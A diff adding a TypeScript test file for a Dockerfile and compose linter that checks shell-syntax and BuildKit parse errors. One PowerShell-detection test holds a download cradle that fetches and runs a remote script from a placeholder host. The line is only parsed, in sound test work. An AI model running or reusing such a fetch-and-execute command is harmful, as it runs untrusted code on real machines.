@@ -1,0 +1,155 @@
+import assert from 'node:assert/strict';
+import { spawnSync } from 'node:child_process';
+import { describe, it } from 'node:test';
+import { rules } from '../../rules/index.ts';
+import { defaultConfig, emptyProject, lint } from '../../server/engine/index.ts';
+import { parseScript } from '../../server/engine/shell/parse.ts';
+
+/** Texts that no shell takes: what is said of each, and the text from the place on where it is said. */
+const broken: readonly (readonly [text: string, reason: string, from: string])[] = [
+  ["echo 'a && b", 'a quote is not closed', "'a && b"],
+  ['echo "a && b', 'a quote is not closed', '"a && b'],
+  ["sh -c 'echo \"a; b'", 'a quote is not closed', '"a; b\''],
+  ['echo "$(echo \'a)" ; b', 'a quote is not closed', '"$(echo \'a)" ; b'],
+  ['echo `a && b', 'a backquote is not closed', '`a && b'],
+  ['echo $(a && b', 'a substitution is not closed', '$(a && b'],
+  ['echo ${a && b', 'an expansion is not closed', '${a && b'],
+  ['echo $((1 && b', 'an expansion is not closed', '$((1 && b'],
+  ['(a; b', 'a bracket is not closed', 'b'],
+  ['{ a; b', 'a bracket is not closed', 'b'],
+  ['if a; then b', '`fi` is missing', 'b'],
+  ['if a; b', '`then` is missing', 'b'],
+  ['for i in a; b', '`do` is missing', 'b'],
+  ['while a; do b', '`done` is missing', 'b'],
+  ['case a in a) b', '`esac` is missing', 'b'],
+  ['a && ', 'a command is missing', '&'],
+  ['a > ; b', 'a redirection has no target', '; b'],
+  ['a ;; b', 'a word or an operator is not allowed where it stands', ';; b'],
+  ['&& a', 'a word or an operator is not allowed where it stands', '&& a'],
+  ['fi; a', 'a word or an operator is not allowed where it stands', 'fi; a'],
+  ['a ) b', 'a word or an operator is not allowed where it stands', ') b'],
+];
+
+const sound = [
+  "echo 'a' && b",
+  'echo "${a:-"b"}" `c` $((1 + 2)) $(d)',
+  'if a; then b; elif c; then d; else e; fi',
+  'for i in a b; do case $i in a) c ;; *) d ;; esac; done',
+  'f() { a; }; f | (b; c) > d 2>&1',
+  'cat <<A\nit\'s "\nA\n',
+  'sh -c \'echo "a"\'',
+];
+
+const read = (text: string) =>
+  parseScript({ text, offset: 0, interpreter: 'bash', escape: '\\', env: new Map(), verbatim: true });
+/** What a shell says without running anything. */
+const isTaken = (text: string) => spawnSync('sh', ['-n'], { input: text }).status === 0;
+
+describe('a script that no shell takes', () => {
+  for (const [text, reason, from] of broken)
+    it(`is said to be broken: ${text}`, () => {
+      const { fault } = read(text);
+      assert.equal(fault?.reason, reason);
+      assert.equal(text.slice(fault?.span.start).trimEnd(), from);
+      assert.equal(fault?.span.end, (fault?.span.start ?? 0) + 1);
+      // A script in quotes is a word to the outer shell.
+      if (!text.startsWith('sh -c')) assert.ok(!isTaken(text));
+    });
+
+  for (const text of sound)
+    it(`is not one that a shell takes: ${text}`, () => {
+      assert.equal(read(text).fault, undefined);
+      assert.ok(isTaken(text));
+    });
+
+  it('is none where dash takes it, though bash does not', () =>
+    assert.equal(read('f() a; f').fault, undefined));
+
+  it('is PowerShell where its words say so: the image has brought that shell', () => {
+    const script = read("iex ((new-object net.webclient).DownloadString('https://x.test/a.ps1')); b $env:C");
+    assert.equal(script.fault, undefined);
+    assert.equal(script.interpreter, 'powershell');
+    assert.deepEqual(script.commands.at(-1)?.name, 'b');
+  });
+});
+
+function problemsOf(path: string, kind: 'dockerfile' | 'compose', text: string): string[] {
+  let project = emptyProject().with({ path, kind, text });
+  for (let missing = project.missing(path); missing.length > 0; missing = project.missing(path))
+    project = project.withAbsent(...missing);
+  return lint(project, path, rules, defaultConfig).problems.map(({ message, span }) => {
+    const line = text.slice(0, span?.start).split('\n').length;
+    return `${line}: ${message}`;
+  });
+}
+
+describe('a script that cannot be read to its end is a problem', () => {
+  const said = 'This script cannot be read to its end as sh or bash: a quote is not closed.';
+  const instructions = [
+    "RUN echo 'a; b",
+    'RUN ["sh", "-c", "echo \'a; b"]',
+    'RUN <<EOF\necho "a\nEOF',
+    "CMD echo 'a",
+    "ENTRYPOINT exec 'a",
+    "HEALTHCHECK CMD a 'b",
+    "ONBUILD RUN echo 'a",
+  ];
+  for (const text of instructions)
+    it(text, () => {
+      const line = text.startsWith('RUN <<') ? 3 : 2;
+      assert.deepEqual(problemsOf('Dockerfile', 'dockerfile', `FROM alpine:3.20\n${text}\n`), [
+        `${line}: ${said}`,
+      ]);
+    });
+
+  it('in a compose file, also in an inline Dockerfile', () => {
+    const text = [
+      'services:',
+      '  a:',
+      '    image: alpine:3.20',
+      '    command: [sh, -c, "echo \'a; b"]',
+      '    healthcheck:',
+      '      test: echo \'a"',
+      '  b:',
+      '    build:',
+      '      dockerfile_inline: |',
+      '        FROM alpine:3.20',
+      "        RUN echo 'a",
+      '',
+    ].join('\n');
+    assert.deepEqual(
+      problemsOf('compose.yaml', 'compose', text),
+      [4, 6, 11].map((line) => `${line}: ${said}`),
+    );
+  });
+});
+
+describe('words that BuildKit cannot resolve', () => {
+  const words: readonly (readonly [text: string, message: string])[] = [
+    ['ENV A="b', 'A double quote is not closed.'],
+    ["ENV A it's", 'A single quote is not closed.'],
+    ["LABEL a='b", 'A single quote is not closed.'],
+    ['ARG A=${b', 'A closing "}" is missing.'],
+    ['USER ${x', 'A closing "}" is missing.'],
+    ['WORKDIR ${}', 'The variable substitution has no variable name.'],
+    ['EXPOSE ${P^}', 'The variable substitution has an unsupported modifier.'],
+    ['COPY "a b c', 'A double quote is not closed.'],
+    ['VOLUME "/a', 'A double quote is not closed.'],
+    ['STOPSIGNAL "TERM', 'A double quote is not closed.'],
+  ];
+  for (const [text, message] of words)
+    it(`are a problem: ${text}`, () =>
+      assert.deepEqual(problemsOf('Dockerfile', 'dockerfile', `FROM alpine:3.20\n${text}\n`), [
+        `2: ${message}`,
+      ]));
+
+  for (const text of [
+    'WORKDIR "/a b"',
+    'ENV A="b c" D=${E:-"f"} G=${H#*/}',
+    'COPY ["it\'s", "/a"]',
+    'ONBUILD ENV A="b',
+    'USER $U',
+  ])
+    it(`are none: ${text}`, () =>
+      assert.deepEqual(problemsOf('Dockerfile', 'dockerfile', `FROM alpine:3.20\n${text}\n`), []));
+});
